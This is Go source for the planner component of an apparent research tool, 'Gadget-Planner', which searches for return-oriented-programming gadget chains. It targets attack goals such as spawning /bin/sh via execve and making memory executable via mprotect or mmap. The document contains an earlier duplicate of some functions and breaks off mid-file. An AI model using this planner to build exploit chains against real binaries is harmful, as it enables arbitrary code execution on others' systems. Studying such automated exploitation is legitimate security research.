// GoalStep returns the syscall step's ID.
func (p *Plan) GoalStep() int { return p.goalStep }

// step returns the step with the given ID.
func (p *Plan) step(id int) *Step { return &p.Steps[id] }

// Complete reports whether no open pre-conditions remain.
func (p *Plan) Complete() bool { return len(p.Open) == 0 }

// NumGadgets counts real gadget steps.
func (p *Plan) NumGadgets() int {
	n := 0
	for _, s := range p.Steps {
		if s.G != nil {
			n++
		}
	}
	return n
}

// orderedBefore reports whether a must precede b under the transitive
// closure of Order.
func (p *Plan) orderedBefore(a, b int) bool {
	if a == b {
		return false
	}
	// BFS over ordering edges.
	adj := make(map[int][]int, len(p.Order))
	for _, o := range p.Order {
		adj[o[0]] = append(adj[o[0]], o[1])
	}
	seen := map[int]bool{a: true}
	queue := []int{a}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		for _, next := range adj[cur] {
			if next == b {
				return true
			}
			if !seen[next] {
				seen[next] = true
				queue = append(queue, next)
			}
		}
	}
	return false
}

// addOrder inserts a precedence edge, reporting false if it would create a
// cycle.
func (p *Plan) addOrder(before, after int) bool {
	if before == after {
		return false
	}
	if p.orderedBefore(after, before) {
		return false
	}
	for _, o := range p.Order {
		if o[0] == before && o[1] == after {
			return true
		}
	}
	p.Order = append(p.Order, [2]int{before, after})
	return true
}

// Linearize produces a total order of step IDs consistent with the partial
// order: Start first, goal last, and ties broken by step ID (insertion
// order, which tends to put producers late in the search and hence early in
// the backward-built chain).
func (p *Plan) Linearize() []int {
	indeg := make(map[int]int, len(p.Steps))
	adj := make(map[int][]int)
	for _, s := range p.Steps {
		indeg[s.ID] = 0
	}
	for _, o := range p.Order {
		adj[o[0]] = append(adj[o[0]], o[1])
		indeg[o[1]]++
	}
	var ready []int
	for id, d := range indeg {
		if d == 0 {
			ready = append(ready, id)
		}
	}
	var out []int
	for len(ready) > 0 {
		sort.Ints(ready)
		// Prefer the goal step last: among ready nodes pick a non-goal one
		// if possible, highest ID first (later-added gadgets are deeper
		// producers and must run earlier).
		pick := -1
		for i := len(ready) - 1; i >= 0; i-- {
			if ready[i] != p.goalStep || len(out)+1 == len(p.Steps) {
				pick = i
				break
			}
		}
		if pick == -1 {
			pick = 0
		}
		id := ready[pick]
		ready = append(ready[:pick], ready[pick+1:]...)
		out = append(out, id)
		for _, next := range adj[id] {
			indeg[next]--
			if indeg[next] == 0 {
				ready = append(ready, next)
			}
		}
	}
	return out
}

// Chain returns the linearized gadget sequence (Start omitted).
func (p *Plan) Chain() []*gadget.Gadget {
	var out []*gadget.Gadget
	for _, id := range p.Linearize() {
		if g := p.step(id).G; g != nil {
			out = append(out, g)
		}
	}
	return out
}

// Signature identifies the plan by the multiset of its gadgets' semantic
// shapes. Chains that differ only in which address supplies an equivalent
// gadget (e.g. two pop-rbp sites) share a signature, so the search's output
// counts structurally diverse chains — the paper's notion of chain
// diversity — rather than address permutations.
func (p *Plan) Signature() string {
	var shapes []string
	for _, s := range p.Steps {
		if s.G != nil {
			shapes = append(shapes, gadgetShape(s.G))
		}
	}
	sort.Strings(shapes)
	return strings.Join(shapes, ",")
}

// gadgetShape summarizes a gadget's plan-relevant semantics.
func gadgetShape(g *gadget.Gadget) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d/%d/", g.JmpType, g.Effect.StackDelta)
	for _, r := range g.CtrlRegs {
		sb.WriteString(r.String())
		sb.WriteByte('+')
	}
	sb.WriteByte('/')
	for _, r := range g.ClobRegs {
		sb.WriteString(r.String())
		sb.WriteByte('+')
	}
	fmt.Fprintf(&sb, "/c%d/m%d.%d", len(g.Effect.Conds), len(g.Effect.MemReads), len(g.Effect.MemWrites))
	if g.HasCond {
		sb.WriteString("/cj")
	}
	if g.Merged {
		sb.WriteString("/dj")
	}
	return sb.String()
}

// String renders the linearized chain for reports.
func (p *Plan) String() string {
	var sb strings.Builder
	for i, g := range p.Chain() {
		if i > 0 {
			sb.WriteString(" -> ")
		}
		fmt.Fprintf(&sb, "%s", g)
	}
	return sb.String()
}
