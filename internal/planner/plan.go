// Package planner implements Gadget-Planner's partial-order planning stage
// (paper Section IV-D, Algorithm 1): a backward greedy best-first search
// from an attack goal over the gadget pool, maintaining for every partial
// plan the 5-tuple (alpha, beta, gamma, delta, epsilon) — selected gadgets,
// ordering constraints, causal links, open pre-conditions, and threatened
// links (resolved eagerly by promotion/demotion).
//
// A completed plan is an abstract chain: gadget instances, a partial order,
// and residual constraints. The payload package linearizes and concretizes
// plans into injectable bytes, discharging the residual constraints with the
// SMT solver.
package planner

import (
	"fmt"
	"sort"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// SpecKind describes what kind of value a register must hold.
type SpecKind uint8

// Value specification kinds.
const (
	SpecConst     SpecKind = iota + 1 // a known 64-bit constant
	SpecPointer                       // a pointer to attacker-placed bytes
	SpecArbitrary                     // any attacker-chosen value (e.g. a jump target)
)

// ValueSpec is a requirement on a register's value.
type ValueSpec struct {
	Kind  SpecKind
	Value uint64 // SpecConst
	Data  []byte // SpecPointer: bytes the register must point at
}

// ConstSpec returns a constant-value spec.
func ConstSpec(v uint64) ValueSpec { return ValueSpec{Kind: SpecConst, Value: v} }

// PointerSpec returns a pointer-to-data spec.
func PointerSpec(data []byte) ValueSpec { return ValueSpec{Kind: SpecPointer, Data: data} }

// ArbitrarySpec returns an attacker-chosen-value spec.
func ArbitrarySpec() ValueSpec { return ValueSpec{Kind: SpecArbitrary} }

// String renders the spec.
func (v ValueSpec) String() string {
	switch v.Kind {
	case SpecConst:
		return fmt.Sprintf("%#x", v.Value)
	case SpecPointer:
		return fmt.Sprintf("ptr(%q)", v.Data)
	case SpecArbitrary:
		return "*"
	}
	return "?"
}

// equalSpec reports whether two specs request the same value.
func equalSpec(a, b ValueSpec) bool {
	if a.Kind != b.Kind {
		return false
	}
	switch a.Kind {
	case SpecConst:
		return a.Value == b.Value
	case SpecPointer:
		return string(a.Data) == string(b.Data)
	default:
		return true
	}
}

// Goal is an attack objective: register values that must hold when a
// syscall-terminated gadget fires (paper Section II-B).
type Goal struct {
	Name string
	Regs map[isa.Reg]ValueSpec
}

// ExecveGoal returns the execve("/bin/sh", 0, 0) goal:
// rax=59, rdi -> "/bin/sh", rsi=0, rdx=0.
func ExecveGoal() Goal {
	return Goal{
		Name: "execve",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(59),
			isa.RDI: PointerSpec(append([]byte("/bin/sh"), 0)),
			isa.RSI: ConstSpec(0),
			isa.RDX: ConstSpec(0),
		},
	}
}

// MprotectGoal returns the mprotect(page, 0x1000, RWX) goal for a fixed page.
func MprotectGoal(page uint64) Goal {
	return Goal{
		Name: "mprotect",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(10),
			isa.RDI: ConstSpec(page),
			isa.RSI: ConstSpec(0x1000),
			isa.RDX: ConstSpec(7), // PROT_READ|WRITE|EXEC
		},
	}
}

// MmapGoal returns the mmap(0, 0x1000, RWX, MAP_PRIVATE|MAP_ANONYMOUS, ...)
// goal. The fd/offset registers (r8/r9) are left unconstrained, as the OS
// model ignores them for anonymous mappings; r10 carries the flags.
func MmapGoal() Goal {
	return Goal{
		Name: "mmap",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(9),
			isa.RDI: ConstSpec(0),
			isa.RSI: ConstSpec(0x1000),
			isa.RDX: ConstSpec(7),
			isa.R10: ConstSpec(0x22), // MAP_PRIVATE|MAP_ANONYMOUS
		},
	}
}

// Goals returns the three standard attack goals of the paper.
func Goals() []Goal {
	return []Goal{ExecveGoal(), MprotectGoal(0x601000), MmapGoal()}
}

// GoalsForISA returns the standard goals expressed in a backend's syscall
// ABI. Syscall numbers follow the x86-64 Linux numbering on every backend
// (the emulated OS model is ISA-independent); only the registers carrying
// the number and the arguments differ. For "x64" (or empty) this yields
// exactly Goals().
func GoalsForISA(isaName string) []Goal {
	be, ok := isa.ByName(isaName)
	if !ok {
		return Goals()
	}
	abi := be.Syscall()
	mk := func(name string, num uint64, args []ValueSpec) Goal {
		regs := map[isa.Reg]ValueSpec{abi.Num: ConstSpec(num)}
		for i, spec := range args {
			if i < len(abi.Args) {
				regs[abi.Args[i]] = spec
			}
		}
		return Goal{Name: name, Regs: regs}
	}
	return []Goal{
		mk("execve", 59, []ValueSpec{
			PointerSpec(append([]byte("/bin/sh"), 0)), ConstSpec(0), ConstSpec(0),
		}),
		mk("mprotect", 10, []ValueSpec{
			ConstSpec(0x601000), ConstSpec(0x1000), ConstSpec(7),
		}),
		mk("mmap", 9, []ValueSpec{
			ConstSpec(0), ConstSpec(0x1000), ConstSpec(7), ConstSpec(0x22),
		}),
	}
}

// Requirement is one open pre-condition in delta: the consumer step needs
// reg to hold spec at its entry.
type Requirement struct {
	Step int // consumer step ID
	Reg  isa.Reg
	Spec ValueSpec
}

// Link is a causal link in gamma: producer's exit supplies consumer's entry
// requirement on Reg.
type Link struct {
	Producer, Consumer int
	Reg                isa.Reg
	Spec               ValueSpec
}

// SlotDemand records that a gadget instance's own stack inputs must be
// chosen so that an expression over them equals a target at concretization
// time (register fed from payload slots, solved by the SMT solver).
type SlotDemand struct {
	Step int
	// Expr is over the gadget's local variable namespace.
	Expr *expr.Node
	Spec ValueSpec
}

// Step is one plan step: a gadget instance. ID 0 is the Start step (the
// payload injection itself, no gadget); the goal step carries the
// syscall-terminated gadget.
type Step struct {
	ID int
	G  *gadget.Gadget // nil for Start
}

// maxOrderSteps bounds the number of steps a plan's ordering machinery can
// track: ancestor sets are single-word bitsets indexed by step ID.
const maxOrderSteps = 64

// Plan is a (possibly incomplete) attack plan: the paper's problem state.
type Plan struct {
	Steps []Step        // alpha
	Order [][2]int      // beta: (before, after) pairs
	Links []Link        // gamma
	Open  []Requirement // delta
	// Demands are deferred slot equations (part of the plan's constraints).
	Demands []SlotDemand
	// goalStep is the syscall step's ID.
	goalStep int
	// reach[i] is the bitset of step IDs ordered strictly before step i
	// under the transitive closure of Order. Maintained incrementally by
	// addOrder; rebuilt lazily for plans assembled by hand.
	reach []uint64
	// demandKeys dedups Demands; nil until the first addDemand after a
	// Clone, so plans that never gain demands pay nothing for it.
	demandKeys map[demandKey]struct{}
}

// Clone deep-copies the plan (slices are copied; steps and gadget pointers
// are shared immutably).
func (p *Plan) Clone() *Plan {
	q := &Plan{
		Steps:    append([]Step(nil), p.Steps...),
		Order:    append([][2]int(nil), p.Order...),
		Links:    append([]Link(nil), p.Links...),
		Open:     append([]Requirement(nil), p.Open...),
		Demands:  append([]SlotDemand(nil), p.Demands...),
		goalStep: p.goalStep,
		reach:    append([]uint64(nil), p.reach...),
	}
	return q
}

// RestorePlan reassembles a plan from its serialized parts — the inverse of
// reading a searched plan's exported fields plus GoalStep. It exists for the
// artifact store's persistent tier (internal/pipeline), which decodes plan
// artifacts back from disk. The reachability bitsets are rebuilt lazily on
// first ordering query, exactly as for plans assembled by hand.
func RestorePlan(steps []Step, order [][2]int, links []Link, open []Requirement, demands []SlotDemand, goalStep int) *Plan {
	return &Plan{
		Steps:    steps,
		Order:    order,
		Links:    links,
		Open:     open,
		Demands:  demands,
		goalStep: goalStep,
	}
}

// cloneWithOpen is Clone with the Open list replaced by a copy of rest.
// The expansion hot path always drops the requirement it is resolving, so
// cloning the parent's Open only to overwrite it would waste an allocation
// and a copy per successor. Each slice is given a little spare capacity for
// the appends that immediately follow (a new step, its ordering edges, the
// causal link, the producer's entry requirements), so extending the clone
// does not re-allocate.
func (p *Plan) cloneWithOpen(rest []Requirement) *Plan {
	q := &Plan{goalStep: p.goalStep}
	q.Steps = make([]Step, len(p.Steps), len(p.Steps)+1)
	copy(q.Steps, p.Steps)
	q.Order = make([][2]int, len(p.Order), len(p.Order)+4)
	copy(q.Order, p.Order)
	q.Links = make([]Link, len(p.Links), len(p.Links)+1)
	copy(q.Links, p.Links)
	q.Open = make([]Requirement, len(rest), len(rest)+4)
	copy(q.Open, rest)
	if len(p.Demands) > 0 {
		q.Demands = make([]SlotDemand, len(p.Demands), len(p.Demands)+2)
		copy(q.Demands, p.Demands)
	}
	q.reach = make([]uint64, len(p.reach), len(p.reach)+1)
	copy(q.reach, p.reach)
	return q
}

// specKey is a canonical map key for a ValueSpec, matching equalSpec: the
// value matters only for SpecConst, the data only for SpecPointer.
type specKey struct {
	kind SpecKind
	val  uint64
	data string
}

func canonSpecKey(s ValueSpec) specKey {
	switch s.Kind {
	case SpecConst:
		return specKey{kind: SpecConst, val: s.Value}
	case SpecPointer:
		return specKey{kind: SpecPointer, data: string(s.Data)}
	default:
		return specKey{kind: s.Kind}
	}
}

// demandKey identifies a slot demand by (step, expression node, spec).
// Expression nodes are hash-consed per builder, so pointer identity is
// structural identity within one search.
type demandKey struct {
	step int
	e    *expr.Node
	spec specKey
}

// demandScanCutoff is the Demands length above which addDemand switches
// from a linear duplicate scan to the keyed map. Small sets — the common
// case by far — are cheaper to scan than to re-hash after every clone
// (clones drop the map); large sets get the map so repeated inserts stay
// O(1) instead of going quadratic. The cutoff depends only on the plan, so
// dedup behavior is identical at any worker count and with the caches off.
const demandScanCutoff = 16

// addDemand appends d unless an identical demand is already recorded.
func (p *Plan) addDemand(d SlotDemand) {
	if p.demandKeys == nil && len(p.Demands) < demandScanCutoff {
		for i := range p.Demands {
			ex := &p.Demands[i]
			if ex.Step == d.Step && ex.Expr == d.Expr && equalSpec(ex.Spec, d.Spec) {
				return
			}
		}
		p.Demands = append(p.Demands, d)
		return
	}
	if p.demandKeys == nil {
		p.demandKeys = make(map[demandKey]struct{}, len(p.Demands)+1)
		for _, ex := range p.Demands {
			p.demandKeys[demandKey{ex.Step, ex.Expr, canonSpecKey(ex.Spec)}] = struct{}{}
		}
	}
	k := demandKey{d.Step, d.Expr, canonSpecKey(d.Spec)}
	if _, dup := p.demandKeys[k]; dup {
		return
	}
	p.demandKeys[k] = struct{}{}
	p.Demands = append(p.Demands, d)
}

// GoalStep returns the syscall step's ID.
func (p *Plan) GoalStep() int { return p.goalStep }

// step returns the step with the given ID.
func (p *Plan) step(id int) *Step { return &p.Steps[id] }

// Complete reports whether no open pre-conditions remain.
func (p *Plan) Complete() bool { return len(p.Open) == 0 }

// NumGadgets counts real gadget steps.
func (p *Plan) NumGadgets() int {
	n := 0
	for _, s := range p.Steps {
		if s.G != nil {
			n++
		}
	}
	return n
}

// ensureReach (re)establishes the ancestor bitsets. Plans built through
// Search maintain them incrementally; plans assembled by hand (tests,
// external constructors) get them rebuilt from Order here. Appended steps
// with no edges yet simply extend the slice with empty sets.
func (p *Plan) ensureReach() {
	if len(p.Steps) > maxOrderSteps {
		panic("planner: plan exceeds maxOrderSteps (ordering bitsets are single-word)")
	}
	if p.reach == nil && len(p.Order) > 0 {
		// Hand-built plan: recompute the closure by fixed point (Order is
		// tiny for hand-built plans; searched plans never take this path).
		p.reach = make([]uint64, len(p.Steps))
		for changed := true; changed; {
			changed = false
			for _, o := range p.Order {
				next := p.reach[o[1]] | p.reach[o[0]] | 1<<uint(o[0])
				if next != p.reach[o[1]] {
					p.reach[o[1]] = next
					changed = true
				}
			}
		}
		return
	}
	for len(p.reach) < len(p.Steps) {
		p.reach = append(p.reach, 0)
	}
}

// orderedBefore reports whether a must precede b under the transitive
// closure of Order.
func (p *Plan) orderedBefore(a, b int) bool {
	if a == b {
		return false
	}
	p.ensureReach()
	return p.reach[b]&(1<<uint(a)) != 0
}

// addOrder inserts a precedence edge, reporting false if it would create a
// cycle. The transitive closure is maintained incrementally: the new
// ancestor set of `after` (before plus before's ancestors) is OR-ed into
// `after` and into every step that already has `after` as an ancestor.
func (p *Plan) addOrder(before, after int) bool {
	if before == after {
		return false
	}
	p.ensureReach()
	if p.reach[before]&(1<<uint(after)) != 0 {
		return false // after already precedes before: cycle
	}
	for _, o := range p.Order {
		if o[0] == before && o[1] == after {
			return true
		}
	}
	p.Order = append(p.Order, [2]int{before, after})
	if p.reach[after]&(1<<uint(before)) == 0 {
		mask := p.reach[before] | 1<<uint(before)
		bit := uint64(1) << uint(after)
		p.reach[after] |= mask
		for i := range p.reach {
			if p.reach[i]&bit != 0 {
				p.reach[i] |= mask
			}
		}
	}
	return true
}

// Linearize produces a total order of step IDs consistent with the partial
// order: Start first, goal last, and ties broken by step ID (insertion
// order, which tends to put producers late in the search and hence early in
// the backward-built chain).
func (p *Plan) Linearize() []int {
	indeg := make(map[int]int, len(p.Steps))
	adj := make(map[int][]int)
	for _, s := range p.Steps {
		indeg[s.ID] = 0
	}
	for _, o := range p.Order {
		adj[o[0]] = append(adj[o[0]], o[1])
		indeg[o[1]]++
	}
	var ready []int
	for id, d := range indeg {
		if d == 0 {
			ready = append(ready, id)
		}
	}
	var out []int
	for len(ready) > 0 {
		sort.Ints(ready)
		// Prefer the goal step last: among ready nodes pick a non-goal one
		// if possible, highest ID first (later-added gadgets are deeper
		// producers and must run earlier).
		pick := -1
		for i := len(ready) - 1; i >= 0; i-- {
			if ready[i] != p.goalStep || len(out)+1 == len(p.Steps) {
				pick = i
				break
			}
		}
		if pick == -1 {
			pick = 0
		}
		id := ready[pick]
		ready = append(ready[:pick], ready[pick+1:]...)
		out = append(out, id)
		for _, next := range adj[id] {
			indeg[next]--
			if indeg[next] == 0 {
				ready = append(ready, next)
			}
		}
	}
	return out
}

// Chain returns the linearized gadget sequence (Start omitted).
func (p *Plan) Chain() []*gadget.Gadget {
	var out []*gadget.Gadget
	for _, id := range p.Linearize() {
		if g := p.step(id).G; g != nil {
			out = append(out, g)
		}
	}
	return out
}

// Signature identifies the plan by the multiset of its gadgets' semantic
// shapes. Chains that differ only in which address supplies an equivalent
// gadget (e.g. two pop-rbp sites) share a signature, so the search's output
// counts structurally diverse chains — the paper's notion of chain
// diversity — rather than address permutations.
func (p *Plan) Signature() string {
	var shapes []string
	for _, s := range p.Steps {
		if s.G != nil {
			shapes = append(shapes, gadgetShape(s.G))
		}
	}
	sort.Strings(shapes)
	return strings.Join(shapes, ",")
}

// gadgetShape summarizes a gadget's plan-relevant semantics.
func gadgetShape(g *gadget.Gadget) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d/%d/", g.JmpType, g.Effect.StackDelta)
	for _, r := range g.CtrlRegs {
		sb.WriteString(r.String())
		sb.WriteByte('+')
	}
	sb.WriteByte('/')
	for _, r := range g.ClobRegs {
		sb.WriteString(r.String())
		sb.WriteByte('+')
	}
	fmt.Fprintf(&sb, "/c%d/m%d.%d", len(g.Effect.Conds), len(g.Effect.MemReads), len(g.Effect.MemWrites))
	if g.HasCond {
		sb.WriteString("/cj")
	}
	if g.Merged {
		sb.WriteString("/dj")
	}
	return sb.String()
}

// String renders the linearized chain for reports.
func (p *Plan) String() string {
	var sb strings.Builder
	for i, g := range p.Chain() {
		if i > 0 {
			sb.WriteString(" -> ")
		}
		fmt.Fprintf(&sb, "%s", g)
	}
	return sb.String()
}
