package planner

import (
	"container/heap"
	"sort"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Options tune the plan search.
type Options struct {
	// MaxPlans stops the search after this many validated plans. Default 8.
	MaxPlans int
	// MaxNodes bounds search-node expansions. Default 30000.
	MaxNodes int
	// MaxSteps bounds gadget instances per plan (chain length). Default 10.
	MaxSteps int
	// Candidates caps producer candidates tried per open requirement.
	// Default 8.
	Candidates int
	// Timeout bounds wall-clock search time. Default 30s.
	Timeout time.Duration
	// Validate, if set, is called on each complete plan; only plans it
	// accepts are returned (Algorithm 1's UNSAT filtering, implemented by
	// payload concretization in the core pipeline).
	Validate func(*Plan) bool
	// Trace, if set, observes every expanded plan (diagnostics).
	Trace func(*Plan)
}

func (o Options) withDefaults() Options {
	if o.MaxPlans == 0 {
		o.MaxPlans = 8
	}
	if o.MaxNodes == 0 {
		o.MaxNodes = 30000
	}
	if o.MaxSteps == 0 {
		o.MaxSteps = 10
	}
	if o.Candidates == 0 {
		o.Candidates = 8
	}
	if o.Timeout == 0 {
		o.Timeout = 30 * time.Second
	}
	return o
}

// Result reports the search outcome.
type Result struct {
	Plans     []*Plan
	Expanded  int
	Generated int
	Rejected  int // complete plans rejected by validation
	TimedOut  bool
}

// planHeap orders plans by the paper's heuristics: fewest open
// pre-conditions, then fewest deferred constraints, then fewest steps.
type planHeap []*Plan

func (h planHeap) Len() int { return len(h) }
func (h planHeap) Less(i, j int) bool {
	if len(h[i].Open) != len(h[j].Open) {
		return len(h[i].Open) < len(h[j].Open)
	}
	if len(h[i].Demands) != len(h[j].Demands) {
		return len(h[i].Demands) < len(h[j].Demands)
	}
	return len(h[i].Steps) < len(h[j].Steps)
}
func (h planHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *planHeap) Push(x any)   { *h = append(*h, x.(*Plan)) }
func (h *planHeap) Pop() any {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// Search runs backward partial-order planning over the pool toward the
// goal, returning up to MaxPlans distinct complete plans.
func Search(pool *gadget.Pool, goal Goal, opts Options) *Result {
	opts = opts.withDefaults()
	res := &Result{}
	deadline := time.Now().Add(opts.Timeout)

	var q planHeap
	for _, p := range seeds(pool, goal) {
		heap.Push(&q, p)
	}

	found := make(map[string]bool)
	// Partial-plan dedup: structurally identical search states (same gadget
	// shapes, same open requirements) are explored once.
	visited := make(map[string]bool)
	// Diversity pressure: gadgets already appearing in accepted plans are
	// deprioritized as producers, pushing the search toward structurally
	// different chains (the paper: "Gadget-Planner does not stop when
	// finding one gadget chain; it keeps searching for more diverse gadget
	// chains").
	uses := make(map[int]int)
	for q.Len() > 0 && res.Expanded < opts.MaxNodes {
		if res.Expanded%256 == 0 && time.Now().After(deadline) {
			res.TimedOut = true
			break
		}
		p := heap.Pop(&q).(*Plan)
		res.Expanded++
		if opts.Trace != nil {
			opts.Trace(p)
		}

		if p.Complete() {
			sig := p.Signature()
			if found[sig] {
				continue
			}
			if opts.Validate != nil && !opts.Validate(p) {
				res.Rejected++
				continue
			}
			found[sig] = true
			res.Plans = append(res.Plans, p)
			for _, g := range p.Chain() {
				uses[g.ID]++
			}
			if len(res.Plans) >= opts.MaxPlans {
				break
			}
			continue
		}

		for _, succ := range expand(pool, p, opts, uses) {
			key := partialKey(succ)
			if visited[key] {
				continue
			}
			visited[key] = true
			res.Generated++
			heap.Push(&q, succ)
		}
	}
	return res
}

// seeds builds one initial plan per usable syscall gadget (the backward
// search starts from the attack's final state).
func seeds(pool *gadget.Pool, goal Goal) []*Plan {
	// Deterministic goal-register order.
	regs := make([]isa.Reg, 0, len(goal.Regs))
	for r := range goal.Regs {
		regs = append(regs, r)
	}
	sort.Slice(regs, func(i, j int) bool { return regs[i] < regs[j] })

	// Prefer simple syscall gadgets.
	anchors := append([]*gadget.Gadget(nil), pool.Syscalls...)
	sort.Slice(anchors, func(i, j int) bool {
		if len(anchors[i].Effect.Conds) != len(anchors[j].Effect.Conds) {
			return len(anchors[i].Effect.Conds) < len(anchors[j].Effect.Conds)
		}
		if anchors[i].NumInsts() != anchors[j].NumInsts() {
			return anchors[i].NumInsts() < anchors[j].NumInsts()
		}
		return anchors[i].Location < anchors[j].Location
	})
	// Seed every anchor: the most useful ones (libc-style syscall wrappers
	// that set argument registers internally) are long and would be crowded
	// out by any shortest-first cap. Unworkable seeds die cheaply when a
	// requirement has no producers.
	if len(anchors) > 64 {
		anchors = anchors[:64]
	}

	var out []*Plan
	for _, sg := range anchors {
		selfReqs, usable := stepEntryReqs(pool.Builder, sg)
		if !usable {
			continue
		}
		p := &Plan{
			Steps:    []Step{{ID: 0}, {ID: 1, G: sg}},
			goalStep: 1,
		}
		p.addOrder(0, 1)
		ok := true
		for _, r := range regs {
			spec := goal.Regs[r]
			e := sg.Effect.Regs[r]
			if e == pool.Builder.Var(symex.RegVarName(r), 64) {
				// Unchanged by the syscall gadget: require at its entry.
				p.Open = append(p.Open, Requirement{Step: 1, Reg: r, Spec: spec})
				continue
			}
			pr, provided := provides(pool.Builder, sg, r, spec)
			if !provided {
				ok = false
				break
			}
			for _, rq := range pr.entryReqs {
				p.Open = append(p.Open, Requirement{Step: 1, Reg: rq.reg, Spec: rq.spec})
			}
			for _, d := range pr.demands {
				d.Step = 1
				p.Demands = append(p.Demands, d)
			}
		}
		if !ok {
			continue
		}
		for _, rq := range selfReqs {
			p.Open = append(p.Open, Requirement{Step: 1, Reg: rq.reg, Spec: rq.spec})
		}
		out = append(out, p)
	}
	return out
}

// expand generates successor plans for the first open requirement.
func expand(pool *gadget.Pool, p *Plan, opts Options, uses map[int]int) []*Plan {
	req := p.Open[0]
	rest := p.Open[1:]
	var succs []*Plan

	// Candidate 1: reuse an existing step that already supplies this value.
	for i := range p.Steps {
		s := &p.Steps[i]
		if s.G == nil || s.ID == req.Step {
			continue
		}
		if s.ID != p.goalStep && (s.G.Effect.End == symex.EndSyscall || s.G.Effect.StackDelta < 0) {
			continue
		}
		if p.orderedBefore(req.Step, s.ID) {
			continue // cannot be ordered before the consumer
		}
		if sp := linkedSpec(p, s.ID, req.Reg); sp != nil {
			if !equalSpec(*sp, req.Spec) {
				continue // the step is committed to a different value
			}
			succs = append(succs, applyProducer(pool, p, rest, req, s.ID, provideResult{})...)
			continue
		}
		pr, ok := provides(pool.Builder, s.G, req.Reg, req.Spec)
		if !ok {
			continue
		}
		succs = append(succs, applyProducer(pool, p, rest, req, s.ID, pr)...)
	}

	// Candidate 2: instantiate a new gadget step.
	if p.NumGadgets() < opts.MaxSteps {
		cands := rankCandidates(pool, req, uses)
		taken := 0
		for _, g := range cands {
			if taken >= opts.Candidates {
				break
			}
			pr, ok := provides(pool.Builder, g, req.Reg, req.Spec)
			if !ok {
				continue
			}
			selfReqs, usable := stepEntryReqs(pool.Builder, g)
			if !usable {
				continue
			}
			succ := p.Clone()
			succ.Open = append([]Requirement(nil), rest...)
			id := len(succ.Steps)
			succ.Steps = append(succ.Steps, Step{ID: id, G: g})
			succ.addOrder(0, id)
			// The syscall fires last; every other gadget precedes it.
			if id != succ.goalStep {
				succ.addOrder(id, succ.goalStep)
			}
			for _, rq := range selfReqs {
				succ.Open = append(succ.Open, Requirement{Step: id, Reg: rq.reg, Spec: rq.spec})
			}
			if more := finishLink(pool, succ, req, id, pr); len(more) > 0 {
				succs = append(succs, more...)
				taken++
			}
		}
	}
	return succs
}

// partialKey identifies a search state by its gadget-shape multiset and its
// open requirements, for duplicate pruning.
func partialKey(p *Plan) string {
	var sb strings.Builder
	sb.WriteString(p.Signature())
	sb.WriteByte('|')
	reqs := make([]string, 0, len(p.Open))
	for _, r := range p.Open {
		shape := "start"
		if g := p.step(r.Step).G; g != nil {
			shape = gadgetShape(g)
		}
		reqs = append(reqs, shape+":"+r.Reg.String()+":"+r.Spec.String())
	}
	sort.Strings(reqs)
	sb.WriteString(strings.Join(reqs, ","))
	return sb.String()
}

// linkedSpec returns the spec a step is already committed to supply for reg.
func linkedSpec(p *Plan, step int, reg isa.Reg) *ValueSpec {
	for i := range p.Links {
		if p.Links[i].Producer == step && p.Links[i].Reg == reg {
			return &p.Links[i].Spec
		}
	}
	return nil
}

// applyProducer links an existing step as the producer for req.
func applyProducer(pool *gadget.Pool, p *Plan, rest []Requirement, req Requirement, producer int, pr provideResult) []*Plan {
	succ := p.Clone()
	succ.Open = append([]Requirement(nil), rest...)
	return finishLink(pool, succ, req, producer, pr)
}

// finishLink installs the causal link and the producer's own new
// requirements and demands, then resolves threats. Because each threat can
// be resolved by demotion or promotion, the result is a (possibly empty)
// set of consistent successor plans.
func finishLink(pool *gadget.Pool, succ *Plan, req Requirement, producer int, pr provideResult) []*Plan {
	for _, rq := range pr.entryReqs {
		succ.Open = append(succ.Open, Requirement{Step: producer, Reg: rq.reg, Spec: rq.spec})
	}
	for _, d := range pr.demands {
		d.Step = producer
		// Skip if an identical demand is already recorded (spec reuse).
		dup := false
		for _, ex := range succ.Demands {
			if ex.Step == d.Step && ex.Expr == d.Expr && equalSpec(ex.Spec, d.Spec) {
				dup = true
				break
			}
		}
		if !dup {
			succ.Demands = append(succ.Demands, d)
		}
	}
	if !succ.addOrder(producer, req.Step) {
		return nil
	}
	link := Link{Producer: producer, Consumer: req.Step, Reg: req.Reg, Spec: req.Spec}
	succ.Links = append(succ.Links, link)
	return resolveThreats(succ, 2)
}

// firstUnresolvedThreat finds a step that clobbers some link's register and
// could be ordered between that link's producer and consumer.
func firstUnresolvedThreat(p *Plan) (threat int, link Link, found bool) {
	for i := range p.Steps {
		t := &p.Steps[i]
		if t.G == nil {
			continue
		}
		for _, l := range p.Links {
			if t.ID == l.Producer || t.ID == l.Consumer {
				continue
			}
			if !clobbers(t.G, l.Reg) {
				continue
			}
			if p.orderedBefore(t.ID, l.Producer) || p.orderedBefore(l.Consumer, t.ID) {
				continue // already safe
			}
			return t.ID, l, true
		}
	}
	return 0, Link{}, false
}

// resolveThreats enumerates consistent orderings protecting every causal
// link, branching on demotion (threat before producer) versus promotion
// (threat after consumer), up to limit plans.
func resolveThreats(p *Plan, limit int) []*Plan {
	t, l, found := firstUnresolvedThreat(p)
	if !found {
		return []*Plan{p}
	}
	var out []*Plan
	if q := p.Clone(); q.addOrder(t, l.Producer) {
		out = append(out, resolveThreats(q, limit)...)
	}
	if len(out) < limit {
		if q := p.Clone(); q.addOrder(l.Consumer, t) {
			out = append(out, resolveThreats(q, limit-len(out))...)
		}
	}
	if len(out) > limit {
		out = out[:limit]
	}
	return out
}

// rankCandidates orders the register-indexed gadgets by planning cost:
